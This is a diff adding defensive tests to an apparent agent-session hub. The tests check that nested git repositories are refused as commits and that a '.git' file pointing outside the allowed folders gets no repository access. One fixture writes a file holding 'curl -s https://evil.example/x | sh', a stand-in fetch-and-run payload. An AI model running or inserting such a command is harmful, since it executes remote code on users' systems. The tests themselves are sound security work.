@@ -132,6 +132,28 @@ async def test_a_commit_whose_head_moved_meanwhile_is_refused(hub_factory: Any, 
     assert "more than a commit card shows" in error["message"] and "terminal" in error["hint"]
 
 
+async def test_a_nested_repository_is_never_committed_from_a_card(hub_factory: Any, lap: Connect,
+                                                                   tmp_path: Path) -> None:
+    """A `git init` inside the session's folder is a gitlink (mode 160000) in the tree: a card would have said
+    "added sub +1 −0" of what is a whole other repository at one commit. No card is made; the error names it."""
+    h = await start_sessions_hub(hub_factory, lap, tmp_path)
+    started = await _session(h, h.repo)
+    session_id = started["sessionId"]
+    nested = make_repo(h.repo / "sub")
+    (nested / "payload.sh").write_text("curl -s https://evil.example/x | sh\n")
+    git(nested, "add", "-A")
+    git(nested, "commit", "-q", "-m", "Payload")
+    at = git(nested, "rev-parse", "HEAD")
+    (h.repo / "feature.txt").write_text("feature\n")
+    response = await h.api.post(f"/api/sessions/{session_id}/commit", {"message": "Add feature"})
+    assert response.status_code == 409, response.text
+    error = response.json()["error"]
+    assert f"sub is a nested git repository (at commit {at[:12]})" in error["message"], error
+    assert "terminal" in error["hint"]
+    assert (await h.session(session_id))["pendingCommit"] is None
+    assert "sub" not in _committed(h.repo)
+
+
 async def test_the_hubs_git_reads_run_no_filter_the_repository_names(hub_factory: Any, lap: Connect,
                                                                      tmp_path: Path) -> None:
     h = await start_sessions_hub(hub_factory, lap, tmp_path)
@@ -208,6 +230,53 @@ async def test_a_git_file_cannot_point_the_session_at_another_repository(hub_fac
     assert response.status_code == 409 and "not the one this session began in" in response.json()["error"]["message"]
     assert git(outside, "count-objects", "-v") == objects  # nothing was written into the other repository
     assert git(outside, "status", "--porcelain") == ""
+
+
+async def test_a_git_file_leading_out_of_the_roots_is_no_repository_for_a_new_session(hub_factory: Any, lap: Connect,
+                                                                                        tmp_path: Path) -> None:
+    """A `.git` file written before the session starts (root/plain is no repository, its `.git` names one outside
+    the roots): the projects list says so, a new session there is no git session (no ref written outside, no diff of
+    the outside repository), and its worktrees and branches are not listed."""
+    h = await start_sessions_hub(hub_factory, lap, tmp_path)
+    outside = make_repo(tmp_path / "scratch" / "outside")
+    (outside / "secret.txt").write_text("secret\n")
+    git(outside, "add", "-A")
+    git(outside, "commit", "-q", "-m", "Secret")
+    (outside / "secret.txt").write_text("changed\n")  # dirty, so a listing that ran git status there would say so
+    refs = git(outside, "for-each-ref")
+    plain = h.root / "plain"
+    plain.mkdir()
+    (plain / "notes.md").write_text("notes\n")
+    (plain / ".git").write_text(f"gitdir: {outside / '.git'}\n")
+    # And one inside the roots that names another project's repository: not this folder's either.
+    borrowed = h.root / "borrowed"
+    borrowed.mkdir()
+    (borrowed / ".git").write_text(f"gitdir: {h.repo / '.git'}\n")
+
+    listed = {p["name"]: p for p in (await h.api.get("/api/sessions/projects"))["projects"]}
+    for name in ("plain", "borrowed"):
+        assert listed[name]["git"] is False and "dirty" not in listed[name] and "branch" not in listed[name]
+        assert "outside this folder" in listed[name]["gitRefused"], listed[name]
+    assert listed["proj"]["git"] is True and "gitRefused" not in listed["proj"]
+
+    started = await _session(h, plain)
+    session_id = started["sessionId"]
+    assert (await h.session(session_id))["baseCommit"] is None
+    error = (await h.query(f"/api/sessions/{session_id}/diff", 409, path="secret.txt", against="uncommitted"))
+    assert "secret" not in str(error) and "not a git repository" in error["error"]["message"]
+    assert "outside this folder" in error["error"]["message"]
+    assert git(outside, "for-each-ref") == refs  # no refs/lineup/sessions/<id> in the outside repository
+    started = await _session(h, borrowed)
+    assert (await h.session(started["sessionId"]))["baseCommit"] is None
+    assert "refs/lineup" not in git(h.repo, "for-each-ref")
+    # What needs a repository refuses the folder, saying why.
+    for url in ("/api/sessions/worktrees", "/api/sessions/branches"):
+        response = await h.api.call("GET", url, params={"project": str(plain)})
+        assert response.status_code == 422 and "outside this folder" in response.json()["error"]["message"]
+    response = await h.api.post("/api/sessions", {"agent": "scripted", "project": str(plain), "message": "hi",
+                                                  "where": {"kind": "new_worktree", "branch": "x"}})
+    assert response.status_code == 422 and "outside this folder" in response.json()["error"]["message"]
+    assert git(outside, "for-each-ref") == refs and not (tmp_path / "scratch" / "outside.worktrees").exists()
 
 
 async def test_a_branch_git_misreads_is_refused_and_a_failed_worktree_leaves_nothing(hub_factory: Any, lap: Connect,
